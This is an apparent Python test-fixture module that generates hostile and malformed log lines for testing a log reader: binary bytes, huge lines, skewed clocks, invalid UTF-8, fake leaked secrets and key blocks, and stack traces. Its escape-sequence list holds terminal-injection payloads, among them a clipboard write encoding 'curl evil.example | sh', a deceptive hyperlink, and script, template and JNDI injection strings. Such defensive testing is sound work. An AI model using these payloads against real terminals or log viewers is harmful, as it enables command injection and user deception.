"""Scripts for tests of whatever reads logs: garbage, escapes, endless lines, broken clocks, rotated files, doubles.

Each line is a function of its number, as in any script. Those that are to be counted bear their number as ` n=7 `.
"""

from __future__ import annotations

import random
from typing import Final

from k8sops.sandbox.logs.lines import ordinary, secret

LONG_LINE_BYTES: Final = 10_000_000
LONG_EVERY: Final = 10
TWINS: Final = 4
"""Lines of one nanosecond: all but the last are the same."""
BACK_NS: Final = -30_000_000_000
AHEAD_NS: Final = 3_600_000_000_000
_WORDS: Final = (
    b" req=%08x user=u-%04d path=/cart/items took=%dms upstream=payments attempt=%d cache=miss region=eu-1"
)


def numbered(index: int, number: int, at_ns: int) -> bytes:
    """A line of about 120 bytes that bears its number."""
    level = (b"info", b"info", b"info", b"warn", b"info", b"debug", b"info", b"error")[number & 7]
    return b"level=%b n=%d msg=handled" % (level, index) + _WORDS % (
        number,
        number % 9999,
        number % 900,
        number % 4,
    )


def twins(index: int, number: int, at_ns: int) -> bytes:
    """Three lines alike and one that differs, all of one nanosecond."""
    group, within = divmod(index, TWINS)
    return b"error group=%d %b" % (
        group,
        b"given up" if within == TWINS - 1 else b"connection refused, once more",
    )


def skew(index: int) -> int:
    """How far the node's clock is off when it stamps this line: every tenth is early, every twenty-fifth late."""
    if index % 25 == 24:
        return AHEAD_NS
    return BACK_NS if index % 10 == 9 else 0


def long_line(index: int, number: int, at_ns: int) -> bytes:
    """Every tenth line has ten megabytes."""
    text = numbered(index, number, at_ns)
    return _long(text) if index % LONG_EVERY == LONG_EVERY - 1 else text


def _long(text: bytes) -> bytes:
    begin = b'{"%b","rows":["' % text
    filler = b"0123456789abcdef" * (LONG_LINE_BYTES // 16)
    return begin + filler[: LONG_LINE_BYTES - len(begin) - 3] + b'"]}'


def binary(index: int, number: int, at_ns: int) -> bytes:
    """Any byte but the one that ends a line, NUL and a lone carriage return among them; every fourth line is text."""
    if index % 4 == 3:
        return numbered(index, number, at_ns)
    return random.Random(number).randbytes(20 + number % 400).replace(b"\n", b"\0")  # noqa: S311 - made-up lines


_ESCAPES: Final = (
    b"\x1b[31mred\x1b[0m \x1b[1;5mblinks\x1b[m and stays \x1b[7mreversed",
    b"\x1b]0;owned\x07 a title, and \x1b]2;owned too\x1b\\ another",
    b"\x1b]8;;https://evil.example/\x1b\\docs.example\x1b]8;;\x1b\\ a link that lies",
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 the clipboard",
    b"\x1b[2J\x1b[H\x1b[3J a cleared screen",
    b"\x1b[?1049h\x1b[?1000h\x1b[?25l modes of the terminal",
    b"\x1b[6n\x1b[c\x1b[>c\x1b]11;?\x07 questions that a terminal answers into the shell",
    b'\x1bP$q"p\x1b\\ and \x1b_Gi=1;AAAA\x1b\\ and \x1bP+q544e\x1b\\ device strings',
    "user \u202egnp.exe\u202c and \u2066isolated\u2069 \u200bnothing\u200b\ufeff".encode(),
    "\x9b31mC1 red\x9b0m \x9d0;C1 title\x9c".encode(),
    b"progress 10%\rprogress 99%\rdone\x08\x08\x08\x08gone\x7f\x0b\x0c",
    b"[bold red]markup[/] [@click=app.bell]click[/] <script>alert(1)</script> {{7*7}} %s %n ${jndi:x}",
    b"an escape that is never closed \x1b]0;" + b"A" * 300,
    b"an escape at the very end \x1b",
)


def ansi(index: int, number: int, at_ns: int) -> bytes:
    """Escape sequences that take over a terminal, and text that lies about itself; each line in its turn."""
    return b"n=%d " % index + _ESCAPES[index % len(_ESCAPES)]


_BROKEN: Final = (
    b"a lone continuation \x80 byte",
    b"a cut sequence \xe2\x82",
    b"overlong \xc0\xaf\xe0\x80\xaf slashes",
    b"a surrogate \xed\xa0\x80 half",
    b"beyond Unicode \xf4\x90\x80\x80 \xf8\x88\x80\x80\x80",
    b"Latin-1: M\xfcller stra\xdfe",
    "UTF-16: Grüße".encode("utf-16"),
    "fine: Grüße 你好 \U0001f600 e\u0301".encode(),
)


def bad_utf8(index: int, number: int, at_ns: int) -> bytes:
    """Every way in which bytes are no UTF-8; each eighth line is whole."""
    return b"n=%d " % index + _BROKEN[index % len(_BROKEN)].replace(b"\n", b" ")


def told_secrets(index: int, number: int, at_ns: int) -> bytes:
    """Every second line gives a secret away; one in twenty begins a private key of several lines."""
    chance = random.Random(number)  # noqa: S311 - made-up lines
    if index % SECRET_GROUP in _KEY_AT:
        return _key_line(index % SECRET_GROUP - _KEY_AT.start, chance)
    return (secret(chance) if index % 2 else ordinary(chance)).encode()


SECRET_GROUP: Final = 20
_KEY_AT: Final = range(10, 16)


def _key_line(line: int, chance: random.Random) -> bytes:
    name = b"RSA " + b"PRIVATE KEY"
    if line == 0:
        return b"-----BEGIN " + name + b"-----"
    if line == len(_KEY_AT) - 1:
        return b"-----END " + name + b"-----"
    return bytes(chance.choices(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", k=64))


TRACES: Final = b"""\
2026-11-22 14:03:22,117 ERROR [http-nio-8080-exec-7] c.a.shop.CartController - order failed
java.lang.IllegalStateException: cart is empty
\tat com.acme.shop.Cart.checkout(Cart.java:88)
\tat com.acme.shop.CartController.order(CartController.java:41)
\tat java.base/java.lang.Thread.run(Thread.java:1583)
Caused by: java.sql.SQLTransientConnectionException: pool is exhausted
\tat com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:181)
\t... 2 common frames omitted
2026-11-22 14:03:22,340 INFO  [main] c.a.shop.Health - up
ERROR:shop.orders:cannot place order
Traceback (most recent call last):
  File "/srv/app/orders.py", line 41, in place
    stock.reserve(sku, count)
  File "/srv/app/stock.py", line 18, in reserve
    raise OutOfStock(f"{sku}: {count} wanted")

During handling of the above exception, another exception occurred:

Traceback (most recent call last):
  File "/srv/app/main.py", line 9, in <module>
    place(sku=700, count=3)
shop.errors.OrderError: out of stock
INFO:shop.orders:next order
panic: runtime error: invalid memory address or nil pointer dereference
[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x4a1f3c]

goroutine 1 [running]:
main.(*Server).handle(0x0, {0xc0000b4000, 0x1f})
\t/src/cmd/server/main.go:57 +0x1f4
main.main()
\t/src/cmd/server/main.go:23 +0x8a
exit status 2
""".splitlines()


def stack_trace(index: int, number: int, at_ns: int) -> bytes:
    """The three kinds of stack trace, lines between them; all written within a millisecond."""
    return TRACES[index % len(TRACES)]
